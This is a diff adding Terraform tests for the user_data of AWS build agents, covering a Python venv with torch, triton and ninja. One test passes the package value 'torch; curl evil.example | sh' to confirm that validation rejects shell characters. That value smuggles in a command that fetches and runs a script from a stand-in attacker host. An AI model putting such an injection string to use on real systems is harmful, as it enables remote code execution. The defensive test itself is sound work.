@@ -316,3 +316,44 @@ run "a_slot_without_any_enrolment_token_is_refused" {
 
   expect_failures = [aws_instance.agent["agent-01"]]
 }
+
+run "user_data_gives_the_agents_a_python_with_torch_and_triton" {
+  command = plan
+
+  assert {
+    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "KFLEET_PYTHON=/opt/kfleet-python/bin/python3")
+    error_message = "the agents must be told their Python (KFLEET_PYTHON in agent.env)"
+  }
+  assert {
+    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "python3 -m venv --clear \"$py_venv\"") && strcontains(aws_instance.agent["agent-00"].user_data, "pip\" install --quiet --no-cache-dir 'torch' 'triton' 'ninja'")
+    error_message = "the venv must be made and torch, triton and ninja installed into it"
+  }
+  assert {
+    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "these agents run CUDA jobs only")
+    error_message = "a failed install must leave the agents serving CUDA jobs, saying why"
+  }
+  assert {
+    condition     = strcontains(aws_instance.agent["agent-00"].user_data, "pip\" install") && length(split("pip\" install", aws_instance.agent["agent-00"].user_data)[0]) < length(split("systemctl enable --now", aws_instance.agent["agent-00"].user_data)[0])
+    error_message = "the venv must exist before the agents start (each finds its Python once, at start)"
+  }
+}
+
+run "python_packages_empty_installs_no_venv" {
+  command = plan
+  variables {
+    python_packages = []
+  }
+
+  assert {
+    condition     = !strcontains(aws_instance.agent["agent-00"].user_data, "KFLEET_PYTHON") && !strcontains(aws_instance.agent["agent-00"].user_data, "/opt/kfleet-python")
+    error_message = "python_packages = [] must install no venv and set no KFLEET_PYTHON"
+  }
+}
+
+run "python_packages_refuses_shell_characters" {
+  command = plan
+  variables {
+    python_packages = ["torch; curl evil.example | sh"]
+  }
+  expect_failures = [var.python_packages]
+}
